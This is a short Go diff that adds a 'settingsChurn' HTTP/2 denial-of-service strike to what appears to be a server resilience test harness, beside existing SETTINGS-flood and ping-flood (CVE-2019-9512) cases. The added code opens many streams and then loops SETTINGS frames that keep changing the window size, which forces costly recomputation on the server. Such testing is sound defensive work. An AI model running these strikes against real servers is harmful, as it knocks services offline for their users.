@@ -58,6 +58,30 @@ func (settingsFlood) strike(p *peer) error {
 	})
 }
 
+// settingsChurn moves the windows of many open streams with each frame (RFC
+// 9113, 6.9.2): work that grows with what the attacker opened before.
+type settingsChurn struct {
+	streams int
+}
+
+func (a settingsChurn) strike(p *peer) error {
+	if err := p.hello(); err != nil {
+		return err
+	}
+	p.watch()
+	for range a.streams {
+		if _, err := p.call(echoPath); err != nil {
+			return err
+		}
+		p.frames++
+	}
+	size := uint32(0)
+	return p.repeat(func() error {
+		size = size%1000 + 1
+		return p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + size})
+	})
+}
+
 // pingFlood makes the agent answer (CVE-2019-9512).
 type pingFlood struct{}
 
